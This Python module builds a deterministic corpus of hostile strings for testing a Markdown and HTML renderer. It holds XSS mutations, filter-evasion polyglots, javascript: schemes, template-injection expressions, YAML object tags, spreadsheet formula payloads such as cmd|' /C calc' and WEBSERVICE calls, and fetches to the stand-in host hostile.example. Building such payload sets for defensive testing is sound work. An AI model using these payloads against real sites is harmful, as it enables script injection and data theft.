"""Hostile strings by kind, made by combining parts, so that they are the same on each run and none need be listed.

What could run in a page sets the mark `window.hostile` or asks the host `hostile.example`; a test in a browser looks for
both. Public collections are read from a folder that the variable HOSTILE_STRINGS names: `*.txt` with a string a line,
`*.json` with a list of strings.

Sources for the kinds: OWASP's cheat sheet on evading filters, the HTML standard's states of the tokenizer, Heiderich et
al., "mXSS Attacks" (2013), Boucher and Anderson, "Trojan Source" (2021), CommonMark and Python-Markdown on their syntax.
"""

import html
import json
import os
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from urllib.parse import quote

MARK = "window.hostile=1"
HOST = "hostile.example"
CALLS = (MARK, f"document.title='hostile';{MARK}", f"fetch('//{HOST}/x');{MARK}", f"eval('{MARK}')", "alert(1)")
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onfocusin", "onblur", "onanimationstart", "ontoggle",
    "onbegin", "onpageshow", "onhashchange", "onscroll", "onwheel", "onpointerenter", "onpointerrawupdate",
    "oncontentvisibilityautostatechange", "onbeforematch", "onscrollend", "onsecuritypolicyviolation",
)  # fmt: skip
TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "select autofocus", "details open",
    "iframe", "object data=x", "embed src=x", "marquee", "a href=# autofocus tabindex=0", "p tabindex=0 autofocus",
    "math", "style", "link rel=stylesheet href=x", "source", "x contenteditable autofocus tabindex=0", "textarea autofocus",
)  # fmt: skip
SCHEMES = (
    f"javascript:{MARK}", f"JaVaScRiPt:{MARK}", f"java\tscript:{MARK}", f"java\nscript:{MARK}", f"\x01javascript:{MARK}",
    f" javascript:{MARK}", f"javascript&colon;{MARK}", f"&#106;avascript:{MARK}", f"&#x6A;avascript&#58;{MARK}",
    f"&#0000106avascript:{MARK}", f"javascript://%0a{MARK}", f"javascript&NewLine;:{MARK}", f"java&Tab;script:{MARK}",
    "vbscript:msgbox(1)", f"data:text/html,<script>parent.{MARK}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    f"data:image/svg+xml,<svg onload='{MARK}'/>", f"//{HOST}/x", f"http://{HOST}/x.png", f"https:{HOST}/x",
    f"\\\\{HOST}\\x", f"http://x@{HOST}/x", "file:///etc/passwd", "ftp://hostile.example/x", "blob:x", "http://[",
    "http://a\u2100b/x", f"view-source:http://{HOST}/", "mailto:x@hostile.example", "tel:1",
)  # fmt: skip
LINKS = (
    "[x]({})", "[x](<{}>)", "[x]( {} 'x')", "![x]({})", "[![x]({0})]({0})", "<{}>", "[x]: {}", "[x][]\n\n[x]: {}",
    "[x]\n[x]: <{}> \"x\"", "![x][y]\n\n[y]: {}", "[^1]: [x]({})", '<a href="{}">x</a>', "<a href={}>x</a>",
    "<a href='{}' target=_blank>x</a>", '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><input type=submit>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<math href="{}">x</math>', '<object data="{}"></object>',
    '<base href="{}">', '<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">',
    '<embed src="{}">', '<button formaction="{}">x</button>', '<video poster="{}">', "<{}|x>", "{}", "[[{}]]",
    '<body background="{}">', "<style>@import '{}';</style>", '<p style="background:url({})">x', '<use href="{}"/>',
)  # fmt: skip
BREAKS = (
    "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</noscript>", '">', "'>", "</template>", "</svg>",
    "</math>", "</head>", "</xmp>", "</iframe>", "--!>", "?>", "</p>", "</li></ul>", "</td></tr></table>", "</nav>", "`>",
)  # fmt: skip
SWALLOWS = (
    "<!--", "<!-- -- >", "<!-->", "<!--->", "<![CDATA[", "<![ IGNORE [", "<![INCLUDE[", "<![if IE]>", "<!DOCTYPE x [",
    '<!ENTITY x "x">', "<?php", "<?xml version='1.0'?>", "<?", "<!", "</", "<", "<div", "<div>", "<div markdown=1>", "<textarea>",
    "<title>", "<style>", "<script>", "<plaintext>", "<xmp>", "<noscript>", "<template>", "<select>", "<table>", "<svg><style>",
    "<math><mtext>", "<a href='", '<img alt="', "<p title=`", "<frameset>", "<noembed>", "<details>", "<dialog open>", "&", "&#",
    "<b><i>", "<button popovertarget=x>", "<marquee>", "<body class='", "<html lang='", "<head>", "<form id=", "<slot>",
)  # fmt: skip
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<svg><desc><img src=x onerror={}>",
    "<svg><foreignObject><body onload={}>", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={}>",
    "<a><b><a><table><a><img src=x onerror={}>", "<listing>&lt;img src=1 onerror={}&gt;</listing>", "<svg><script>{}</script>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{}>", "<xss/onload={}>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror={}>\">",
    "<table><td background='x' onclick={}>", "<img src=`x`onerror={}>", "<img/src=x/onerror={}//", "<svg/onload={}", "<img \x00src=x onerror={}>",
    "<iframe srcdoc=\"<script>parent.{}</script>\">", "<iframe srcdoc='&lt;script&gt;parent.{}&lt;/script&gt;'>", "<script\x0c>{}</script >",
    "<<script>{}//<</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<script/x>{}</script>", "<script>{}", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<script type=module>{}</script>", "<script src=data:,{}></script>", "<sCrIpT>{}</ScRiPt>", "%3Cscript%3E{}%3C/script%3E",
    "<object type=text/html data='data:text/html,<script>parent.{}</script>'>", "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "¼script¾{}¼/script¾", "<script>{}</script\n>", "<\u017fcript>{}</\u017fcript>",
)  # fmt: skip
BLOCKS = (
    "# {}", "## {} {{: #x }}", "{}\n===", "{}\n---", "> {}", "- {}", "* {}", "+ {}", "1. {}", "1986. {}", "A. {}", "iv) {}", "- [x] {}", "    {}",
    "\t{}", "```\n{}\n```", "~~~ {{.x onclick=1}}\n{}", "| {} | b |\n| --- | --- |", "{} | b\n--- | ---", ": {}", "Term\n: {}", "*[US]: {}",
    "[^1]: {}", "[^headline]: {}", "[1]: {}", "[Berg]: {}", "!!! note \"{}\"", "??? {}", "=== \"{}\"", "/// html | div\n{}\n///", "::: {}",
    "--8<-- \"{}\"", "--8<--\n{}\n--8<--", ";--8<-- \"mkdocs.yml\" {}", "{{!{}!}}", "[TOC] {}", "[[_TOC_]] {}", "***\n{}", "___{}___", "**{}**",
    "*{}*", "_{}_", "`{}`", "``{}``", "~~{}~~", "~{}~", "^{}^", "^^{}^^", "=={}==", "++{}++", "{{++{}++}}", "{{--{}--}}", "{{>>{}<<}}", "$${}$$",
    "\\({}\\)", "\\[{}\\]", ":{}:", "((({})))", "[{}][^1]", "[{}]", "![{}]", "\\{}", "{}\\", "{}  ", "---\n{}\n---", "...\n{}", "{}\n\n\n{}",
)  # fmt: skip
WORDS = ("x", "mkdocs.yml", ".env", "[x](javascript:alert(1))", "<b>x</b>", "Berg", "smile", "Ctrl+C")
ATTRIBUTES = (
    "{{: {} }}", "{{:{}}}", "{{ {} }}", "x {{: {} }}", "x\n{{: {} }}", "# x {{: {} }}", "[x](y){{: {} }}", "**x**{{: {} }}", "![](x){{: {} }}",
    "- x {{: {} }}", "| x {{: {} }} |", "`x`{{: {} }}", "{{#x {}}}", "{{.x {}}}", "<p {}>", "{{::options {} /}}",
)  # fmt: skip
VALUES = (f"onclick={MARK}", f'onmouseover="{MARK}"', f"style='background:url(//{HOST}/x)'", "id=__search", "class=md-dialog", "markdown=1",
          f"href=javascript:{MARK}", "data-md-component=search", "hidden", "data-md-toggle=drawer")  # fmt: skip
TEMPLATES = (
    "{{{{ {} }}}}", "{{% {} %}}", "{{# {} #}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{{{= {} }}}}", "[[${{{}}}]]", "@({})", "%{{{}}}", "{{{{{{ {} }}}}}}",
    "{{% raw %}}{}{{% endraw %}}", "{{{{< {} >}}}}", "`${{{}}}`", "$({})", "!ENV {}", "!!python/object/apply:{}", "&x {} *x",
)  # fmt: skip
EXPRESSIONS = ("7*7", "config", "config.theme", "page.meta", "''.__class__.__mro__", "include 'mkdocs.yml'", "import os", "os.system ['touch x']", "env.SECRET",
               "extends 'main.html'", "set hostile=1", "lipsum.__globals__")  # fmt: skip
FRONT = (
    "title: x",
    "template: 404.html",
    "hide: [toc]",
    "search: {{exclude: true}}",
    "checksum: 0",
    "status: new",
    "icon: x",
    "social: {{cards: true}}",
)
YAML = ("---\n{}\n---\n", "\n---\n{}\n", "'\n{}\n'", "\"\n{}\n\"", "x: y\n{}", "|\n  {}", "? {}", "- {}", "{{{}}}", "{}: &x", "# {}", "\u2028{}", "\x85{}",
        "'{}", '"{}', "%YAML 1.1\n---\n{}", "...\n{}", "<<: {}", "{} #", "\ufeff---\n{}")  # fmt: skip
CELLS = tuple(f"{sign}{rest}" for sign, rest in product(
    ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", " =", "'=", '"='),
    ("cmd|' /C calc'!A0", f'HYPERLINK("http://{HOST}/x","x")', "1+1", f'WEBSERVICE("http://{HOST}/x")', "SUM(A1:A9)*cmd|'x'!x", 'IMPORTXML("x","//x")'),
))  # fmt: skip
UNSEEN = (
    "\u202e{}", "{}\u202e", "\u2066{}\u2069", "\u200b{}\u200b", "\ufeff{}", "{}\u2028{}", "\u2029{}", "\x85{}", "\x00{}", "\x0c{}", "\x1b[31m{}", "\ud800{}",
    "{}\udfff", "\U000e0041\U000e0042{}", "\u034f{}", "\ufe0f{}", "\u115f{}", "\u0300{}", "\u0489{}", "\uffff{}", "\ufdd0{}", "\x02{}\x03",
    "\x02klzzwxh:0\x03{}", "\x02wzxhzdk:0\x03{}", "\x02amp\x03{}", "\u00ad{}", "\u061c{}", "\u3164{}", "\x7f{}", "\x9f{}", "\r{}", "\u1160{}", "\u180e{}",
    "﷽{}", "𝕏{}", "ǅ{}", "İ{}", "ß{}", "\U0010ffff{}", "٣. {}", "\u2065{}", "\ufff9{}\ufffa{}\ufffb",
)  # fmt: skip
UNITS = ("[", "![", "*", "_", "`", "<", ">", "&", "(", "\\", "#", "$", "~", "|", "{", "{{", "<b>", "<!--", "&amp;", "-", "=", "+", ":", "a_", "*a ", "**a*", "[](",
         "A", "é", "\u0300", "\u202e", "> ", "- ", "1. ", "/", "@", "!", "0", "]", "www.")  # fmt: skip
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={0} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={0}//>\\x3e",
    "\">><marquee><img src=x onerror={0}></marquee>\" ></plaintext\\></|\\><plaintext/onmouseover={0}><script>{0}</script>",
    "'\"--></title></style></textarea></noscript></template><svg/onload={0}>[x](javascript:{0}){{: onclick={0} }}{{{{7*7}}}}",
    "`;{0};//[x]: javascript:{0}\n\n*[x]: x\n\n[^1]: <img src=x onerror={0}>\n\n--8<-- \"mkdocs.yml\"",
    "---\ntitle: </title><script>{0}</script>\n---\n# <img src=x onerror={0}>\n=HYPERLINK(\"javascript:{0}\")",
    "'><img src=x onerror={0}>&lt;img src=x onerror={0}&gt;&amp;lt;img src=x onerror={0}&amp;gt;%3Cimg%20src=x%20onerror={0}%3E",
)  # fmt: skip


def _encoded(text: str) -> Iterator[str]:
    """Yield a text as entities of several kinds, once and twice, and as addresses and scripts write it."""
    yield html.escape(text)
    yield html.escape(html.escape(text))
    yield "".join(f"&#{ord(c)};" for c in text)
    yield "".join(f"&#x{ord(c):x}" for c in text)
    yield "".join(f"\\u{ord(c):04x}" for c in text)
    yield quote(text)


def _active() -> Iterator[str]:
    """Yield the shortest strings that act where HTML is let through."""
    yield from (f"<script>{call}</script>" for call in CALLS)
    yield from (f"<img src=x onerror={MARK}>", f"<svg onload={MARK}>", f"<iframe src=javascript:parent.{MARK}>")
    yield f"<script src=//{HOST}/x.js></script>"


def _kinds() -> Iterator[tuple[str, Iterator[str]]]:
    active = tuple(_active())
    yield "scripts", (mutation.format(call) for mutation, call in product(MUTATIONS, CALLS))
    yield "handlers", (f"<{tag} {event}={MARK}>" for tag, event in product(TAGS, EVENTS))
    yield "links", (link.format(scheme) for link, scheme in product(LINKS, SCHEMES))
    yield "break-outs", (end + text for end, text in product(BREAKS, active))
    yield "swallowing", (text for start in SWALLOWS for text in (start, f"{start}x", f"x {start} {MARK}"))
    yield "encoded", (code for text in active for code in _encoded(text))
    yield "Markdown", (block.format(word, word) for block, word in product(BLOCKS, WORDS))
    yield "attribute lists", (form.format(value) for form, value in product(ATTRIBUTES, VALUES))
    yield "templates", (form.format(expression) for form, expression in product(TEMPLATES, EXPRESSIONS))
    yield "front matter", (form.format(value) for form, value in product(YAML, FRONT))
    yield "formulas", iter(CELLS)
    yield "unseen", (form.format(text, "x", text) for form, text in product(UNSEEN, ("Berg", "<b>", "=1", active[0])))
    yield "runs", (unit * number for unit, number in product(UNITS, (3, 80)))
    yield "polyglots", (form.format(call) for form, call in product(POLYGLOTS, CALLS))


def payloads() -> dict[str, tuple[str, ...]]:
    """Return the strings of each kind, no string twice."""
    seen: set[str] = set()
    found: dict[str, tuple[str, ...]] = {}
    for kind, strings in _kinds():
        found[kind] = tuple(text for text in dict.fromkeys(strings) if text not in seen)
        seen.update(found[kind])
    return found


def collected() -> tuple[str, ...]:
    """Return the strings of public collections, if the variable HOSTILE_STRINGS names a folder that holds some."""
    folder = os.environ.get("HOSTILE_STRINGS")
    found: list[str] = []
    for path in sorted(Path(folder).iterdir()) if folder else ():
        text = path.read_text("utf-8", "replace")
        if path.suffix in (".txt", ".json"):
            found += text.splitlines() if path.suffix == ".txt" else map(str, json.loads(text))
    return tuple(dict.fromkeys(text for text in found if text.strip()))


def spread(strings: dict[str, tuple[str, ...]], number: int) -> tuple[str, ...]:
    """Return so many strings, of each kind alike many as far as it has them, evenly chosen from each."""
    share = -(-number // len(strings))
    chosen = [text for kind in strings.values() for text in kind[:: max(1, len(kind) // share)][:share]]
    return tuple(chosen[:number])
